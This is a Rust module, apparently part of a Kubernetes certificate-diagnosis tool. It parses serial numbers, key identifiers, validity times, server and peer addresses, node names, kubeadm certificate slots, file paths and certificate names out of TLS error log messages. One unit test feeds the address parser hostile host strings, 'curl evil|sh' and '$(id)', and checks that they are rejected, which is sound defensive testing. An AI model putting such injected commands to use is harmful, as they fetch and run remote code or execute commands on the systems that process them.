//! What a message says of certificates, apart from what is wrong: numbers, keys, names, times, places.

use std::net::IpAddr;

use super::line::zoned;
use crate::catalog::{CaSlot, Slot};
use crate::digest::parse_hex;
use crate::time::Timestamp;
use crate::x509::{AlternativeName, SerialNumber};

/// An address that a message names.
#[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
#[non_exhaustive]
pub struct Address {
    /// The host, a name or an address.
    pub host: String,
    /// The port; `None` when the message has none, or one that the caller's system has drawn.
    pub port: Option<u16>,
}

impl std::fmt::Display for Address {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let host = self.host.escape_debug();
        match self.port {
            Some(port) if self.host.contains(':') => write!(f, "[{host}]:{port}"),
            Some(port) => write!(f, "{host}:{port}"),
            None => write!(f, "{host}"),
        }
    }
}

/// Returns the serial number: `SN=` in decimal as the API server writes it, otherwise after `serial` in hexadecimal, with
/// colons or without, or in decimal as OpenSSL writes short ones.
pub(super) fn serial(message: &str) -> Option<SerialNumber> {
    if let Some(digits) = after(message, "SN=") {
        let digits: String = digits.chars().take_while(char::is_ascii_digit).collect();
        return decimal(&digits);
    }
    let at = find_ignoring_case(message, "serial")?;
    let rest = &message["serial".len() + at..];
    let rest = rest.get(find_ignoring_case(rest, "number").filter(|at| *at < 3).map_or(0, |at| at + 6)..)?;
    let rest = rest.trim_start_matches(|c: char| " :=\"'".contains(c));
    let is_number = |c: char| c.is_ascii_hexdigit() || c == ':' || c == 'x' || c == 'X';
    let word: &str = &rest[..rest.find(|c| !is_number(c)).unwrap_or(rest.len())];
    let word = word.trim_end_matches(':');
    if let Some(digits) = word.strip_prefix("0x").or_else(|| word.strip_prefix("0X")) {
        return hexadecimal(digits);
    }
    // `8599525725034223369 (0x7757a715ad7f9709)`
    if let Some(digits) = rest[word.len()..].strip_prefix(" (0x") {
        return hexadecimal(digits.split(')').next().unwrap_or_default());
    }
    if word.contains(':') || word.bytes().any(|byte| !byte.is_ascii_digit()) {
        return hexadecimal(word);
    }
    // Digits only: OpenSSL's `serial=` is hexadecimal and of whole bytes, Go's is decimal.
    if message[..at + "serial".len()].ends_with("serial") && message[at + "serial".len()..].starts_with('=') {
        return hexadecimal(word);
    }
    decimal(word)
}

fn hexadecimal(digits: &str) -> Option<SerialNumber> {
    let mut digits: String = digits.chars().filter(|c| *c != ':').collect();
    if digits.len() < 2 || digits.len() > 42 {
        return None;
    }
    if digits.len() % 2 == 1 {
        digits.insert(0, '0');
    }
    digits.parse().ok()
}

/// Parses a decimal number of at most 20 bytes.
fn decimal(digits: &str) -> Option<SerialNumber> {
    if digits.is_empty() || digits.len() > 49 {
        return None;
    }
    let mut bytes = [0_u8; 21];
    for digit in digits.bytes() {
        let mut carry = u16::from(digit.checked_sub(b'0').filter(|digit| *digit < 10)?);
        for byte in bytes.iter_mut().rev() {
            let value = u16::from(*byte) * 10 + carry;
            *byte = u8::try_from(value & 0xff).expect("it is one byte");
            carry = value >> 8;
        }
        if carry > 0 {
            return None;
        }
    }
    let text: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    text.strip_prefix("00").unwrap_or(&text).parse().ok()
}

/// Returns the key identifier after `name`, such as `AKID=9A:A4:…`; none when it is empty.
pub(super) fn key_identifier(message: &str, name: &str) -> Option<Vec<u8>> {
    let rest = after(message, name)?;
    let end = rest.find(|c: char| !c.is_ascii_hexdigit() && c != ':').unwrap_or(rest.len());
    let digits: String = rest[..end].chars().filter(|c| *c != ':').collect();
    parse_hex(&digits).filter(|bytes| (8..=64).contains(&bytes.len()))
}

/// What a message says of a validity that it lies outside of.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(super) struct Judged {
    pub(super) at: Option<Timestamp>,
    pub(super) end: Option<Timestamp>,
    pub(super) begin: Option<Timestamp>,
}

/// Returns what stands around `current time X is after Y`, or `is before`.
pub(super) fn judged(message: &str) -> Judged {
    let Some(rest) = after(message, "current time ") else {
        return Judged { at: None, end: None, begin: None };
    };
    let mut words = rest.split([' ', ',', ']', '"', ')', '\'']);
    let at = words.next().and_then(zoned);
    let relation = (words.next(), words.next());
    let border = words.next().and_then(zoned);
    match relation {
        (Some("is"), Some("before")) => Judged { at, end: None, begin: border },
        _ => Judged { at, end: border, begin: None },
    }
}

/// Returns the moment in Go's own format after `marker`: `2020-11-22 05:11:53 +0000 UTC`.
pub(super) fn go_time(message: &str, marker: &str) -> Option<Timestamp> {
    let mut words = after(message, marker)?.split([' ', '"', ',']);
    let (date, time, zone) = (words.next()?, words.next()?, words.next()?);
    zoned(&format!("{date}T{time}{zone}"))
}

/// Returns the address of the server that the message is about.
pub(super) fn server(message: &str) -> Option<Address> {
    let markers = [
        "https://",
        "Addr: \"",
        "dial tcp ",
        "connect to server at ",
        "connection to the server ",
        "dial target host \"",
        "endpoint:",
        "unable to fetch status of endpoint ",
    ];
    let found = markers.iter().find_map(|marker| address(after(message, marker)?));
    // `etcd-endpoints://0xc0004d4000/127.0.0.1:2379`
    let of_client = || address(after(message, "etcd-endpoints://")?.split_once('/')?.1);
    // `HTTPSConnectionPool(host='192.168.10.11', port=6443)`
    let of_pool = || {
        let rest = after(message, "HTTPSConnectionPool(host='")?;
        let port = after(rest, "port=")?.split(')').next()?.parse().ok();
        Some(Address { port, ..address(rest)? })
    };
    found.or_else(of_client).or_else(of_pool)
}

/// Returns the host at the other end of a connection that was accepted; its port says nothing.
pub(super) fn peer(message: &str) -> Option<String> {
    let markers = ["TLS handshake error from ", "remote-addr=\"", "rejected connection from \""];
    let found = markers.iter().find_map(|marker| address(after(message, marker)?));
    found.map(|address| address.host)
}

fn address(text: &str) -> Option<Address> {
    let text = text.trim_start_matches(|c: char| "\\\"'".contains(c));
    let text = text.strip_prefix("https://").unwrap_or(text);
    let (host, rest) = if let Some(bracketed) = text.strip_prefix('[') {
        let (host, rest) = bracketed.split_once(']')?;
        (host, rest)
    } else {
        let is_end = |c: char| !(c.is_ascii_alphanumeric() || "-._*".contains(c));
        let end = text.find(is_end).unwrap_or(text.len()).min(255);
        text.split_at_checked(end)?
    };
    // The zone of an address has a meaning on the host that wrote it alone.
    let host = host.split('%').next().unwrap_or_default();
    // Whoever hides an address before showing a log hides it so.
    let is_hidden = host.contains("***") && host.bytes().all(|byte| b"*.".contains(&byte));
    if host.len() > 255 || !is_hidden && AlternativeName::parse_host(host).is_err() {
        return None;
    }
    let digits = rest.strip_prefix(':').unwrap_or_default();
    let end = digits.find(|c: char| !c.is_ascii_digit()).unwrap_or(digits.len());
    Some(Address { host: host.to_owned(), port: digits[..end].parse().ok() })
}

/// Returns the node whose kubelet says so of itself.
pub(super) fn node(message: &str) -> Option<String> {
    let quoted = ["nable to register node", "rror getting node"].iter().find_map(|of| quoted(message, of));
    let registers = message.contains("nable to register node") || message.contains("pdating node status");
    let field = || after(message, "node=\"").filter(|_| registers)?.split('"').next();
    let lease = || after(message, "namespaces/kube-node-lease/leases/")?.split(['?', '"', ' ']).next();
    let name = quoted.or_else(field).or_else(lease)?;
    let is_name = AlternativeName::parse_host(name).is_ok();
    is_name.then(|| name.to_owned())
}

/// Returns what kubeadm calls by its name: `certificate apiserver not signed by`, `failed to renew certificate front-proxy-client`.
pub(super) fn slot(message: &str) -> Option<Slot> {
    let markers = [
        ("could not validate bounds for certificate ", ":"),
        ("certificate ", " not signed by CA certificate"),
        ("failed to renew certificate ", ":"),
        ("failure loading ", " certificate"),
    ];
    markers.iter().find_map(|(before, behind)| {
        let name = match message.find(behind).filter(|_| behind.len() > 1) {
            Some(end) => message[..end].rsplit_once(before)?.1,
            None => after(message, before)?.split(*behind).next()?,
        };
        let ca = CaSlot::ALL.into_iter().find(|ca| {
            name.eq_ignore_ascii_case(ca.name()) || name == ca.base_name() || name == ca.spec().common_name
        });
        let of_name = || Slot::ALL.into_iter().find(|slot| slot.name() == name);
        ca.map(Slot::Ca).or_else(of_name)
    })
}

/// Returns the path of a file that holds a certificate, key or kubeconfig.
pub(super) fn path(message: &str) -> Option<String> {
    let mut rest = message;
    let mut found: Option<&str> = None;
    while let Some(at) = rest.find('/') {
        let text = &rest[at..];
        let end = text
            .find(|c: char| c.is_whitespace() || c.is_control() || "\"',;:()[]{}<>\\".contains(c))
            .unwrap_or(text.len());
        let word = text[..end].trim_end_matches('.');
        // What follows `https:/` is no path.
        // `client-ca-bundle::/etc/…` names a file, `serving-cert::a.crt::a.key` two.
        let is_path = word.len() > 1 && !word.starts_with("//") && word.len() < 1024;
        if is_path && ENDINGS.iter().any(|ending| word.ends_with(ending)) {
            // The certificate is named before its key, and a file before what refers to it.
            found.get_or_insert(word);
        }
        rest = &text[end.max(1)..];
    }
    found.map(str::to_owned)
}

/// What the names of such files end with.
const ENDINGS: [&str; 6] = [".crt", ".key", ".pem", ".conf", ".pub", ".cert"];

/// Returns the text in quotation marks after `marker`.
pub(super) fn quoted<'m>(message: &'m str, marker: &str) -> Option<&'m str> {
    let rest = after(message, marker)?.trim_start_matches([' ', ':']).strip_prefix('"')?;
    rest.split('"').next().filter(|text| !text.is_empty() && text.len() < 256)
}

/// The names that a server was reached by, and those in its certificate.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub(super) struct Names {
    pub(super) wanted: Option<String>,
    pub(super) valid_for: Vec<String>,
}

/// Returns the names of `certificate is valid for A, B, not C` and its relatives.
pub(super) fn names(message: &str) -> Names {
    let clean = |name: &str| {
        let name = name.trim().trim_matches(|c: char| "\"'`,.()[]".contains(c));
        (!name.is_empty() && name.len() < 256).then(|| name.to_owned())
    };
    let word = |text: &str| clean(text.split([' ', '"', ')', ';']).find(|word| !word.is_empty())?);
    if let Some(rest) = after(message, "certificate is valid for ")
        && let Some((names, wanted)) = rest.split_once(", not ")
    {
        return Names {
            wanted: word(wanted),
            valid_for: names.split(", ").filter_map(clean).take(MOST_NAMES).collect(),
        };
    }
    if let Some(rest) = after(message, "but wanted to match ") {
        return Names { wanted: word(rest), valid_for: Vec::new() };
    }
    // `tls: "192.16.0.3" does not match any of DNSNames ["host1" "localhost"]`, etcd's.
    if let Some(at) = message.find(" does not match any of DNSNames") {
        let wanted = message[..at].rsplit([' ', '(']).next().and_then(clean);
        let names =
            after(&message[at..], "DNSNames [").and_then(|rest| rest.split(']').next()).unwrap_or_default();
        return Names { wanted, valid_for: names.split(' ').filter_map(clean).take(MOST_NAMES).collect() };
    }
    let markers = [
        "cannot validate certificate for ",
        "target host name ",
        "does not match target host name ",
        "subject name matches target ipv4 address ",
    ];
    Names { wanted: markers.iter().find_map(|marker| word(after(message, marker)?)), valid_for: Vec::new() }
}

/// Certificates have a dozen names.
const MOST_NAMES: usize = 64;

/// Returns the common name of a subject that the message states.
pub(super) fn common_name(message: &str) -> Option<String> {
    let rest = ["CN=", "CN = ", "subject with cn="].iter().find_map(|marker| after(message, marker))?;
    let end = rest.find(|c: char| c.is_whitespace() || "\",;/+)]".contains(c)).unwrap_or(rest.len());
    let name = &rest[..end];
    (!name.is_empty() && name.len() < 256).then(|| name.to_owned())
}

/// Returns whether `host` is an address of the machine itself.
pub(super) fn is_loopback(host: &str) -> bool {
    host == "localhost" || host.parse::<IpAddr>().is_ok_and(|address| address.is_loopback())
}

/// Returns what follows `marker`.
pub(super) fn after<'m>(message: &'m str, marker: &str) -> Option<&'m str> {
    message.split_once(marker).map(|(_, rest)| rest)
}

fn find_ignoring_case(text: &str, word: &str) -> Option<usize> {
    let found =
        text.as_bytes().windows(word.len()).position(|window| window.eq_ignore_ascii_case(word.as_bytes()));
    found.filter(|at| text.is_char_boundary(*at))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn serial_numbers_are_read_in_every_spelling() {
        let expected = serial("SN=8599525725034223369, SKID=");
        assert_eq!(expected.as_ref().map(ToString::to_string).as_deref(), Some("7757a715ad7f9709"));
        for text in [
            "serial=7757A715AD7F9709",
            "serial: 77:57:a7:15:ad:7f:97:09",
            "Serial Number: 8599525725034223369 (0x7757a715ad7f9709)",
            "serial number 8599525725034223369",
            "serialNumber=0x7757a715ad7f9709",
            "certificate with serial \"77:57:A7:15:AD:7F:97:09\"",
        ] {
            assert_eq!(serial(text), expected, "{text}");
        }
        assert_eq!(serial("SN=0, x").map(|serial| serial.to_decimal()).as_deref(), Some("0"));
        let longest = "730750818665451459101842416358141509827966271487";
        assert_eq!(
            serial(&format!("SN={longest}")).map(|serial| serial.to_decimal()).as_deref(),
            Some(longest)
        );
        for text in [
            "",
            "SN=",
            "serial",
            "serial=",
            "serial=zz",
            "SN=99999999999999999999999999999999999999999999999999",
        ] {
            assert_eq!(serial(text), None, "{text}");
        }
    }

    #[test]
    fn times_are_read_with_their_zone() {
        let found = judged("current time 2025-02-21T02:03:32+08:00 is after 2025-02-20T16:53:11Z");
        let at = |text| Timestamp::parse_rfc3339(text).ok();
        assert_eq!(
            found,
            Judged { at: at("2025-02-20T18:03:32Z"), end: at("2025-02-20T16:53:11Z"), begin: None }
        );
        assert_eq!(judged("current time 2025-02-21T02:03:32Z is after").end, None);
        assert_eq!(
            judged("current time 2025-02-21T02:03:32Z is before 2025-03-01T00:00:00Z").begin,
            at("2025-03-01T00:00:00Z")
        );
    }

    #[test]
    fn places_are_read_with_and_without_brackets() {
        let server = |text| server(text).map(|address| address.to_string());
        assert_eq!(server("Get \"https://10.0.0.1:6443/api\"").as_deref(), Some("10.0.0.1:6443"));
        assert_eq!(server("Get \"https://[::1]:6443/api\"").as_deref(), Some("[::1]:6443"));
        assert_eq!(server("Post \"https://***********:6443/api\"").as_deref(), Some("***********:6443"));
        assert_eq!(
            server("dial tcp 127.0.0.1:2379: connect: connection refused").as_deref(),
            Some("127.0.0.1:2379")
        );
        assert_eq!(peer("TLS handshake error from 10.0.0.5:41234: EOF").as_deref(), Some("10.0.0.5"));
        assert_eq!(peer("TLS handshake error from [fe80::1%eth0]:41234: EOF").as_deref(), Some("fe80::1"));
        for host in ["[x: curl evil|sh #]", "[$(id)]", "[]", "", "10.0.0.256", "-o"] {
            assert_eq!(peer(&format!("TLS handshake error from {host}:41234: EOF")), None, "{host}");
        }
        assert_eq!(
            path("open /etc/kubernetes/pki/ca.crt: no such").as_deref(),
            Some("/etc/kubernetes/pki/ca.crt")
        );
        assert_eq!(path("https://a.crt/ and nothing"), None);
    }
}
